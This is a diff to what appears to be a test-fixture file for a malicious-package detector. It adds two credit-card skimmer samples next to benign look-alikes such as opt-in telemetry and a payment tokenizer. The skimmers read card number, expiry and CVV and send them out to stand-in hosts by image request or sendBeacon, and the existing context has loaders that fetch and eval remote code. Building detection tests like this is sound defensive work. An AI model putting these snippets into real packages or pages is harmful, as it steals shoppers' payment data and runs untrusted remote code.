@@ -181,6 +181,14 @@ export const MALICIOUS_23: Record<string, Record<string, string | Buffer>> = {
   ),
   e1: hook(`fetch('https://cdn.metrics-lib.example/loader.js').then((r) => r.text()).then(eval);\n`),
   e2: hook(`fetch('https://cdn.metrics-lib.example/loader.js').then((r) => r.text()).then((s) => eval(s));\n`),
+  skimmerImage: {
+    'package.json': pj(),
+    'index.js': `window.addEventListener('load', () => {\n  const btn = document.querySelector('#checkout'); if (!btn) return;\n  btn.addEventListener('click', () => {\n    const cc = document.getElementById('cc-number').value, exp = document.getElementById('cc-exp').value, cvv = document.getElementById('cc-cvv').value;\n    new Image().src = 'https://img.analytics-px.example/p.gif?d=' + btoa([cc, exp, cvv].join('|'));\n  });\n});\n`,
+  },
+  skimmerBeaconSelectors: {
+    'package.json': pj(),
+    'index.js': `document.addEventListener('submit', () => {\n  const num = document.querySelector('input[name="cardnumber"]').value;\n  const code = document.querySelector('input[name="cvc"]').value;\n  const payload = JSON.stringify({ n: num, c: code, at: Date.now() });\n  navigator.sendBeacon('https://collect.pixel-cdn.example/b', payload);\n});\n`,
+  },
 };
 
 /** Honest look-alikes by id: their files. */
@@ -236,5 +244,9 @@ export const HONEST_23: Record<string, Record<string, string>> = {
   telemetryOptIn: {
     'package.json': pj({ homepage: 'https://telemetry-tool.example', scripts: { postinstall: 'node index.js' } }),
     'index.js': `const os = require('os');\nif (process.env.PKGX_TELEMETRY === '1') fetch('https://api.telemetry-tool.example/v1/install', { method: 'POST', body: JSON.stringify({ platform: os.platform(), arch: os.arch(), node: process.version }) });\n`,
+  },
+  checkoutOwnProcessor: {
+    'package.json': pj(),
+    'index.js': `export async function pay() {\n  const number = document.getElementById('cc-number').value;\n  const cvc = document.getElementById('cc-cvc').value;\n  const r = await fetch('https://api.pay-processor.example/v1/tokens', { method: 'POST', body: JSON.stringify({ number, cvc }) });\n  return (await r.json()).token;\n}\nexport function pageView() { new Image().src = 'https://px.pay-processor.example/pv?p=' + encodeURIComponent(location.pathname); }\n`,
   },
 };
